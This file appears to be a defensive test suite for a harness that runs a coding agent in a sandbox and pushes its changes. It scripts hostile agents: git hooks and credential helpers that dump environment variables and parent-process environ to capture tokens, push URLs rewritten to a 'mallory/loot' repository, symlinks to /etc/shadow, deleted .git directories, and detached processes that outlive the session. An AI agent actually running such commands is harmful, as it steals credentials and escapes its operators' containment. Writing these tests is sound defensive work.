// Repositories and agents that mean harm, or only make a mess.
import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { test } from 'node:test';
import { SEED } from './world/git-host.mjs';
import { REPOSITORY, World, isRoot, story } from './world/world.mjs';

const onlyRoot = isRoot ? false : 'needs root: only then does the agent have a uid of its own';

story(test, 'hooks, fsmonitor, filters and url rewrites that the agent plants run as the agent, never with a token', { skip: onlyRoot }, async world => {
  const trace = `${world.directory}/trace`;
  mkdirSync(trace);
  chmodSync(trace, 0o777);
  world.git.create('mallory/loot');
  world.scriptAgent(`
    spy='#!/bin/sh
    { id -u; env; cat /proc/$PPID/environ /proc/$PPID/cmdline; } >> ${trace}/$(id -u).txt 2>/dev/null
    cat 2>/dev/null'
    for hook in pre-commit commit-msg post-commit pre-push reference-transaction post-index-change update pre-receive; do
      mkdir -p .git/hooks; printf '%s\\n' "$spy" > .git/hooks/$hook; chmod +x .git/hooks/$hook
    done
    printf '%s\\n' "$spy" > $HOME/spy.sh; chmod +x $HOME/spy.sh
    git config core.fsmonitor "$HOME/spy.sh"
    git config filter.spy.clean "$HOME/spy.sh"
    git config core.sshCommand "$HOME/spy.sh"
    git config credential.helper "!$HOME/spy.sh"
    git config url.${world.git.url}/mallory/loot.git.insteadOf ${world.git.url}/${REPOSITORY}.git
    git config url.${world.git.url}/mallory/loot.git.pushInsteadOf ${world.git.url}/${REPOSITORY}.git
    cp .git/config $HOME/.gitconfig
    echo '* filter=spy' > .gitattributes
    echo harmless > CHANGE.md`);
  const end = await world.run();
  assert.equal(end.outcome, 'changes', world.porter.log);
  assert.deepEqual(world.git.branches('mallory/loot'), ['main']);
  assert.ok(world.git.branches(REPOSITORY).includes(world.branch));
  assert.ok(!existsSync(`${trace}/0.txt`), 'something planted ran as root');
  const { readdirSync } = await import('node:fs');
  const seen = readdirSync(trace).map(f => readFileSync(`${trace}/${f}`, 'latin1')).join('');
  assert.ok(seen.length > 0, 'the planted filter did run, as the agent');
  for (const secret of [world.secrets.clone, world.secrets.callback, world.porter.publishToken, world.secrets.key, world.secrets.otherKey]) {
    assert.ok(!seen.includes(secret) && !seen.includes(Buffer.from(`x-access-token:${secret}`).toString('base64')));
  }
});

story(test, 'a link out of the tree is committed as a link, and nothing behind it is read', async world => {
  world.scriptAgent('ln -s /etc/shadow shadow; ln -s / everything; ln -sf ../../outside src/outside');
  assert.equal((await world.run()).outcome, 'changes');
  assert.equal(world.git.in(REPOSITORY, 'ls-tree', world.branch, 'shadow').split(' ')[0], '120000');
  assert.equal(world.git.file(REPOSITORY, world.branch, 'shadow'), '/etc/shadow');
  assert.deepEqual(world.git.changes(REPOSITORY, world.branch), ['everything', 'shadow', 'src/outside']);
});

story(test, 'an agent that deletes .git loses nothing', async world => {
  world.scriptAgent('rm -rf .git; echo still here > FILE.md; rm README.md');
  const end = await world.run();
  assert.equal(end.outcome, 'changes', end.error);
  assert.deepEqual(world.git.changes(REPOSITORY, world.branch), ['FILE.md', 'README.md']);
  assert.match(world.porter.log, /\.git is damaged or gone/);
});

story(test, 'a history rewritten from the root is brought back onto the base', async world => {
  world.scriptAgent('git checkout -q --orphan fresh; echo new > NEW.md; git add -A; git commit -qm rewritten; git branch -D main -q');
  const end = await world.run();
  assert.equal(end.outcome, 'changes', end.error);
  assert.equal(world.git.in(REPOSITORY, 'rev-parse', `${world.branch}~1`).trim(), end.base);
  assert.deepEqual(world.git.changes(REPOSITORY, world.branch), ['NEW.md']);
});

story(test, 'a .git that points elsewhere, a stale lock and a half-done merge do not stop the work', async world => {
  world.scriptAgent(`
    git checkout -q -b other && echo theirs > src/greeting.js && git commit -qam theirs
    git checkout -q main && echo ours > src/greeting.js && git commit -qam ours
    git merge other >/dev/null 2>&1
    touch .git/index.lock`);
  assert.equal((await world.run()).outcome, 'changes');
  assert.match(world.git.file(REPOSITORY, world.branch, 'src/greeting.js'), /ours/);

  const second = await World.create();
  try {
    second.scriptAgent('cp -r .git $HOME/elsewhere; rm -rf .git; echo "gitdir: $HOME/elsewhere" > .git; echo x > X.md');
    assert.equal((await second.run()).outcome, 'changes');
    assert.deepEqual(second.git.changes(REPOSITORY, second.branch), ['X.md']);
  } finally {
    await second.end();
  }
});

story(test, 'a clean filter that never ends does not hold the machine', async world => {
  world.scriptAgent(`echo '*.md filter=stuck' > .gitattributes; git config filter.stuck.clean 'sleep 1000000; cat'; git config filter.stuck.required true; echo x > X.md`);
  world.boot({ env: { STEP_TIMEOUT_SECONDS: '3' } });
  await world.exited;
  assert.equal(world.porter.completed.outcome, 'changes', world.porter.log);
  assert.deepEqual(world.alive('sleep 1000000'), []);
});

story(test, 'a filter that hangs costs seconds, and only the agent\'s own commits', async world => {
  world.scriptAgent(`
    echo one > ONE.md; git add -A; git commit -qm 'One of mine'
    echo '*.md filter=stuck' > .gitattributes; echo x > X.md
    git config filter.stuck.process 'sleep 1000001'; git config filter.stuck.required true`);
  const began = performance.now();
  const end = await world.run();
  const seconds = (performance.now() - began) / 1000;
  assert.equal(end.outcome, 'changes', world.porter.log);
  assert.deepEqual(world.git.changes(REPOSITORY, world.branch), ['.gitattributes', 'ONE.md', 'X.md']);
  assert.match(world.porter.log, /git add took too long/);
  assert.ok(seconds < 45, `${seconds} s`);
  assert.deepEqual(world.alive('sleep 1000001'), []);
});

story(test, 'a repository whose commits cannot be packed is rescued like any other', async world => {
  world.scriptAgent(`
    echo one > ONE.md; git add -A; git commit -qm 'One of mine'
    rm -f .git/objects/$(git rev-parse HEAD:ONE.md | sed 's,^..,&/,'); echo two > ONE.md`);
  const end = await world.run();
  assert.equal(end.outcome, 'changes', world.porter.log);
  assert.match(world.porter.log, /could not be used as it is/);
  assert.deepEqual(world.git.changes(REPOSITORY, world.branch), ['ONE.md']);
});

// A device that never ends, in the place of every file that the worker looks into (git itself refuses a .gitmodules that is a link).
const ENDLESS = ['.gitattributes', 'CLAUDE.md', '.claude/CLAUDE.md', 'AGENTS.md'];
story(test, 'files of a repository that are links to an endless device are not followed', {
  files: { ...SEED, ...Object.fromEntries(ENDLESS.map(file => [file, { link: '/dev/zero' }])) },
}, async world => {
  world.scriptAgent('echo x > X.md', { instructions: { from: ENDLESS, to: 'INSTRUCTIONS.md' } });
  const end = await world.run();
  assert.equal(end.outcome, 'changes', world.porter.log);
  assert.deepEqual(world.git.changes(REPOSITORY, world.branch), ['X.md']);
  assert.doesNotMatch(world.porter.log, /Git LFS/);
});

story(test, 'instructions without end are read in part', { files: { ...SEED, 'CLAUDE.md': `Greet.\n${'x'.repeat(5_000_000)}` } }, async world => {
  world.scriptAgent('wc -c < $HOME/INSTRUCTIONS.md > SIZE.md', { instructions: { from: ['CLAUDE.md'], to: 'INSTRUCTIONS.md' } });
  assert.equal((await world.run()).outcome, 'changes', world.porter.log);
  const size = Number(world.git.file(REPOSITORY, world.branch, 'SIZE.md'));
  assert.ok(size > 1000 && size <= 256 << 10, `${size} bytes`);
});

story(test, 'workflow files are refused by GitHub, and that is said in words', async world => {
  world.scriptAgent('mkdir -p .github/workflows; echo "on: push" > .github/workflows/ci.yml');
  const end = await world.run();
  assert.deepEqual([end.status, end.outcome, end.branch], ['failed', 'push_refused', undefined]);
  assert.match(end.error, /touches files under \.github\/workflows/);
});

story(test, 'a change that is too large is refused by Porter, in its words', async world => {
  world.scriptAgent('mkdir many; for i in $(seq 3100); do : > many/$i.txt; done');
  const end = await world.run();
  assert.deepEqual([end.outcome, end.error], ['push_refused', 'The change touches 3100 files; Porter publishes at most 3000.']);
  assert.deepEqual(world.git.branches(REPOSITORY), ['main']);
  assert.equal(end.files, 3100);
});

story(test, 'an agent that leaves processes behind leaves none', async world => {
  world.scriptAgent(`
    echo x > X.md
    setsid nohup bash -c 'exec -a porter-left-behind-${world.taskId} sleep 100000' &
    (bash -c 'while :; do echo late >> LATE.md; sleep 0.05; done' & )
    env -i setsid sleep 100001 >/dev/null 2>&1 &
    echo done`);
  const end = await world.run();
  assert.equal(end.outcome, 'changes');
  assert.deepEqual(world.alive(`porter-left-behind-${world.taskId}`), []);
});

story(test, 'two machines on one host end only their own agents', { skip: onlyRoot }, async world => {
  const other = await World.create();
  try {
    other.scriptAgent('echo "at work"; while [ ! -e go ]; do sleep 0.1; done; echo mine > MINE.md');
    other.boot();
    await other.porter.until('the other agent at work', p => /at work/.test(p.log));
    world.scriptAgent('echo x > X.md');
    assert.equal((await world.run()).outcome, 'changes');
    writeFileSync(`${other.root}/workspace/go`, '');
    await other.exited;
    assert.equal(other.porter.completed.outcome, 'changes');
  } finally {
    await other.end();
  }
});

story(test, 'an agent that ignores every signal is ended all the same', async world => {
  world.scriptAgent(`trap '' TERM INT HUP; echo deaf > DEAF.md; echo "deaf"; while :; do sleep 1; done`);
  const end = await world.run({ env: { TIMEOUT_SECONDS: '3' } });
  assert.equal(end.outcome, 'timed_out');
  assert.ok(world.git.file(REPOSITORY, world.branch, 'DEAF.md'));
});

story(test, 'megabytes of output are read, bounded, and the log says that it was cut', async world => {
  world.scriptAgent(`
    yes "a line that says nothing" | head -c 20000000
    head -c 30000000 /dev/zero | tr '\\0' x; echo
    echo x > X.md
    echo
    echo "The end."`);
  const end = await world.run();
  assert.deepEqual([end.outcome, end.summary], ['changes', 'The end.']);
  assert.equal(world.porter.lines.length, 5000);
  assert.match(world.porter.lines.at(-1).text, /log was cut/);
  assert.ok(world.porter.lines.every(l => l.text.length <= 2000));
});

story(test, 'submodules and large-file pointers are left as they are, and said', {
  files: { ...SEED, '.gitmodules': '[submodule "x"]\n\tpath = x\n\turl = https://example.test/x.git\n', '.gitattributes': '*.bin filter=lfs diff=lfs merge=lfs -text\n' },
}, async world => {
  world.scriptAgent(`printf 'version https://git-lfs.github.com/spec/v1\\n' > big.bin`);
  assert.equal((await world.run()).outcome, 'changes');
  assert.match(world.porter.log, /has submodules/);
  assert.match(world.porter.log, /Git LFS/);
});

const TMPFS_SKIP = onlyRoot;
story(test, 'a full disk ends in words, and what could be saved is pushed', { skip: TMPFS_SKIP }, async (world, t) => {
  const { spawnSync } = await import('node:child_process');
  const mounted = spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=24m,mode=0755', 'tmpfs', world.root]);
  if (mounted.status !== 0) return t.skip('a tmpfs cannot be mounted here');
  try {
    world.scriptAgent('echo small > SMALL.md; dd if=/dev/zero of=$HOME/cache.bin bs=1M 2>/dev/null; echo "No space left on device" >&2; exit 1');
    const end = await world.run();
    assert.equal(end.code, 0);
    assert.deepEqual([end.outcome, end.error], ['agent_error', "Script failed: the machine's disk is full."]);
    assert.deepEqual(world.git.changes(REPOSITORY, world.branch), ['SMALL.md']);
  } finally {
    spawnSync('umount', ['-l', world.root]);
  }
});
